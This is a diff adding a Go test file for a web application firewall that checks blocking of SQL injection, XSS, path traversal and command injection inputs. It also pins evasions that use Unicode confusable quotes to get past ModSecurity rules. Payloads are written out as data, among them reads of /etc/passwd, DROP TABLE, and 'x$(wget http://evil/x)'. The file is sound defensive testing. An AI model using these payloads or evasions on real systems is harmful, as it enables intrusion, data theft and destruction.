@@ -1,0 +1,192 @@
+package waf
+
+import (
+	"testing"
+
+	"github.com/septic-db/septic/internal/webapp"
+)
+
+func checkOne(w *WAF, param, value string) Decision {
+	return w.Check(webapp.Request{Path: "/x", Params: map[string]string{param: value}})
+}
+
+func TestWAFBlocksClassicSQLI(t *testing.T) {
+	w := New()
+	attacks := []string{
+		"' OR '1'='1",
+		"x' OR 1=1-- ",
+		"1 OR 1=1",
+		"0 UNION SELECT username, password FROM users",
+		"'; DROP TABLE users",
+		"1; select sleep(5)",
+		"' AND SLEEP(5)-- ",
+		"1 and 2=2",
+		"x' union all select load_file('/etc/passwd')-- ",
+		"%27%20OR%20%271%27%3D%271", // URL-encoded quote tautology
+		"un/**/ion sel/**/ect 1",    // comment obfuscation
+	}
+	for _, a := range attacks {
+		if d := checkOne(w, "q", a); !d.Blocked {
+			t.Errorf("classic attack not blocked: %q (score %d)", a, d.Score)
+		}
+	}
+}
+
+func TestWAFBlocksClassicXSSAndInclusion(t *testing.T) {
+	w := New()
+	attacks := []string{
+		"<script>alert(1)</script>",
+		"<SCRIPT SRC=http://evil/x.js>",
+		"<img src=x onerror=alert(1)>",
+		"<a href='javascript:alert(1)'>x</a>",
+		"<iframe src='http://evil'>",
+		"&lt;script&gt;alert(1)&lt;/script&gt;", // entity-encoded
+		"../../etc/passwd",
+		"http://evil.example/shell.php",
+		"php://input",
+		"; cat /etc/passwd",
+		"x$(wget http://evil/x)",
+	}
+	for _, a := range attacks {
+		if d := checkOne(w, "q", a); !d.Blocked {
+			t.Errorf("attack not blocked: %q (score %d)", a, d.Score)
+		}
+	}
+}
+
+// TestWAFFalseNegativesOnSemanticMismatch pins the demonstration's
+// phase-B result: the mismatch attacks pass ModSecurity.
+func TestWAFFalseNegativesOnSemanticMismatch(t *testing.T) {
+	w := New()
+	missed := []string{
+		"nothingʼ OR ʼ1ʼ=ʼ1", // confusable quotes: no ASCII quote to anchor on
+		"ID34FGʼ-- ",         // has "-- ", but rule 942150 anchors on a preceding quote
+		"adminʼ-- ",          // ditto
+		"xʼ AND ʼ1ʼ=ʼ1",      // confusable mimicry
+	}
+	for _, a := range missed {
+		if d := checkOne(w, "q", a); d.Blocked {
+			t.Errorf("expected false negative, but %q was blocked (hits %v)", a, d.Hits)
+		}
+	}
+	// Second-order step 2: the request carries only a numeric id — there
+	// is nothing for a WAF to see.
+	d := checkOne(w, "id", "2")
+	if d.Blocked || d.Score != 0 {
+		t.Errorf("benign-looking second-order trigger scored %d", d.Score)
+	}
+}
+
+func TestWAFPassesBenignTraffic(t *testing.T) {
+	w := New()
+	benign := []string{
+		"ana",
+		"O'Brien", // single quote alone: no connective follows
+		"42",
+		"hello world",
+		"a+b=c in math",
+		"see https://example.com/docs",
+		"Tom & Jerry",
+		"price < 100",
+		"energy",
+		"basement",
+	}
+	for _, b := range benign {
+		if d := checkOne(w, "q", b); d.Blocked {
+			t.Errorf("benign input blocked: %q (hits %v)", b, d.Hits)
+		}
+	}
+}
+
+func TestWAFParanoiaLevels(t *testing.T) {
+	// PL2 adds the aggressive bare-boolean rule.
+	pl1 := New(WithParanoia(Paranoia1))
+	pl2 := New(WithParanoia(Paranoia2), WithThreshold(3))
+	payload := "x OR status=active" // no quotes, no digits
+	if d := pl1.Check(webapp.Request{Path: "/", Params: map[string]string{"q": payload}}); d.Blocked {
+		t.Errorf("PL1 should miss bare boolean: %v", d.Hits)
+	}
+	if d := pl2.Check(webapp.Request{Path: "/", Params: map[string]string{"q": payload}}); !d.Blocked {
+		t.Errorf("PL2 should catch bare boolean (score %d)", d.Score)
+	}
+}
+
+func TestWAFDetectionOnlyLogsWithoutBlocking(t *testing.T) {
+	w := New(WithMode(ModeDetectionOnly))
+	d := checkOne(w, "q", "' OR '1'='1")
+	if d.Blocked {
+		t.Error("DetectionOnly must not block")
+	}
+	if d.Score == 0 {
+		t.Error("DetectionOnly must still score")
+	}
+	if len(w.Log()) != 1 {
+		t.Errorf("log entries = %d, want 1", len(w.Log()))
+	}
+}
+
+func TestWAFOffMode(t *testing.T) {
+	w := New(WithMode(ModeOff))
+	if d := checkOne(w, "q", "' OR '1'='1"); d.Blocked || d.Score != 0 {
+		t.Errorf("Off mode must pass everything: %+v", d)
+	}
+	if len(w.Log()) != 0 {
+		t.Error("Off mode must not log")
+	}
+}
+
+func TestWAFAnomalyAccumulatesAcrossParams(t *testing.T) {
+	// Two warning-level hits (3 points each) cross the threshold of 5
+	// even though neither alone would.
+	w := New(WithRules([]Rule{
+		{ID: 1, Msg: "w1", Severity: SeverityWarning, Paranoia: Paranoia1,
+			Pattern: CoreRuleSet()[4].Pattern}, // comment termination
+	}))
+	d := w.Check(webapp.Request{Path: "/", Params: map[string]string{
+		"a": "'x-- ", "b": "'y-- ",
+	}})
+	if d.Score != 6 || !d.Blocked {
+		t.Errorf("decision = %+v, want score 6 blocked", d)
+	}
+}
+
+func TestProtectWrapsApp(t *testing.T) {
+	app := webapp.NewApp("t", nil)
+	app.Handle("/ok", func(c *webapp.Ctx) { c.Write("fine") })
+	serve := Protect(New(), app)
+
+	resp := serve(webapp.Request{Path: "/ok", Params: map[string]string{"q": "hello"}})
+	if resp.Status != 200 || resp.Body != "fine" {
+		t.Errorf("benign = %+v", resp)
+	}
+	resp = serve(webapp.Request{Path: "/ok", Params: map[string]string{"q": "' OR '1'='1"}})
+	if resp.Status != 403 {
+		t.Errorf("attack = %+v, want 403", resp)
+	}
+}
+
+func TestTransforms(t *testing.T) {
+	tests := []struct {
+		name string
+		f    Transform
+		in   string
+		want string
+	}{
+		{"urlDecode percent", URLDecode, "%27%20OR", "' OR"},
+		{"urlDecode plus", URLDecode, "a+b", "a b"},
+		{"urlDecode invalid", URLDecode, "100%", "100%"},
+		{"lowercase", Lowercase, "UNION Select", "union select"},
+		{"compress ws", CompressWhitespace, "a \t\n b", "a b"},
+		{"entity decode", HTMLEntityDecode, "&lt;script&gt;", "<script>"},
+		{"entity numeric", HTMLEntityDecode, "&#60;x&#62;", "<x>"},
+		{"remove comments", RemoveComments, "un/**/ion", "union"},
+		{"remove unterminated", RemoveComments, "sel/*ect", "sel"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := tt.f(tt.in); got != tt.want {
+				t.Errorf("%s(%q) = %q, want %q", tt.name, tt.in, got, tt.want)
+			}
+		})
+	}
+}
